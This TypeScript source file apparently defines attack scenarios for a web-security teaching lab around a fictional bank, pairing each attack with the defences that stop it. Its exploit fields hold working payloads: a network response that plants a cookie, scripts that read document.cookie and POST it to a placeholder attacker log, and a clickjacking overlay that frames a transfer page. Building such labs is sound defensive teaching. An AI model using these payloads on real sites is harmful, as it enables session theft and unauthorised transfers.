import { type Attack, notWritten, sameSiteNone } from './attack.ts';

/** Lab 6: someone who can answer for every plain http address of the site. */
export const network: readonly Attack[] = [
  {
    id: 'network-read',
    lab: 'network',
    title: 'The network reads the cookie',
    story:
      'A page on a plain http address makes the browser ask the bank over plain http. Whoever sits on the line reads the Cookie header and replays it.',
    goal: 'The bank answers the attacker’s client as if it were Alice.',
    ground: 'network-answer',
    weakness: notWritten,
    exploit: `Content-Type: text/html

<p>Nothing to see here.</p>`,
    sign: { at: 'log' },
    defences: ['secure', 'prefix-host', 'strict-transport', 'http-only'],
    probe: null,
  },
  {
    id: 'network-write',
    lab: 'network',
    title: 'The network writes the cookie',
    story:
      'Whoever sits on the line answers the plain request in the bank’s name, with a cookie that writes over the one that https set.',
    goal: 'What Alice saves over https lands in Mallory’s account.',
    ground: 'network-answer',
    weakness: notWritten,
    exploit: `Set-Cookie: {{cookie}}={{planted}}; Path=/; Max-Age=600; HttpOnly
Content-Type: text/html

<p>Nothing to see here.</p>`,
    sign: { at: 'bank', method: 'POST', path: '/notes' },
    defences: ['secure', 'prefix-host', 'strict-transport', 'http-only'],
    probe: null,
  },
];

/** Lab 7: neither a path nor a port keeps a cookie from a neighbour. */
export const boundaries: readonly Attack[] = [
  {
    id: 'path-read',
    lab: 'boundaries',
    title: 'A page under another path reads the cookie',
    story:
      'The vault’s cookie says Path=…/vault, and a neighbour may publish under another path of the same host. The neighbour’s page frames the vault and reads the frame’s document.cookie.',
    goal: 'The attacker’s log holds the vault’s secret.',
    ground: 'neighbour-path',
    weakness: notWritten,
    exploit: `<iframe src="{{bank}}/vault/" title="The vault"></iframe>
<script>
  const frame = document.querySelector('iframe');
  frame.addEventListener('load', () => {
    let loot = 'Out of reach.';
    try { loot = frame.contentDocument.cookie; } catch {}
    fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: loot });
  });
</script>`,
    sign: { at: 'log' },
    defences: ['http-only', 'same-site-strict', 'frame-ancestors', 'separate-host'],
    probe: null,
  },
  {
    id: 'port-receive',
    lab: 'boundaries',
    title: 'An app on another port receives the cookie',
    story:
      'Another app listens on another port of the bank’s host. Alice follows a link to it, and her browser brings the bank’s cookie along.',
    goal: 'The bank answers the attacker’s client as if it were Alice.',
    ground: 'neighbour-port',
    weakness: notWritten,
    exploit: `<p>A calendar, on another port.</p>
<script>
  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: document.cookie });
</script>`,
    sign: { at: 'log' },
    defences: ['http-only', 'secure', 'same-site-strict', 'prefix-host', 'separate-host'],
    probe: null,
  },
];

/** Lab 8: the bank in a frame, under something else. */
export const framing: readonly Attack[] = [
  {
    id: 'clickjacking',
    lab: 'framing',
    title: 'A click on a framed transfer',
    story:
      'Another site frames the bank’s transfer page, nearly invisible, so that its “Send” lies over a button of its own. Alice means to click the button.',
    goal: 'Alice’s balance goes down.',
    ground: 'other-frame',
    weakness: sameSiteNone,
    exploit: `<style>
  body { margin: 0; overflow: hidden; }
  button { position: absolute; left: 32px; top: 44px; width: 130px; height: 80px; }
  iframe {
    position: absolute; left: 0; top: -240px; width: 240px; height: 240px; border: 0;
    opacity: 0.15; transform: scale(2); transform-origin: 0 0;
  }
</style>
<button>Claim your prize</button>
<iframe src="{{bank}}/transfer/confirm?to=mallory&amp;amount=100" title="A prize"></iframe>`,
    sign: { at: 'bank', method: 'POST', path: '/transfer' },
    defences: [
      'same-site-lax',
      'same-site-strict',
      'frame-ancestors',
      'synchronizer-token',
      'origin-check',
      'fetch-metadata',
    ],
    probe: 'other/iframe',
  },
];
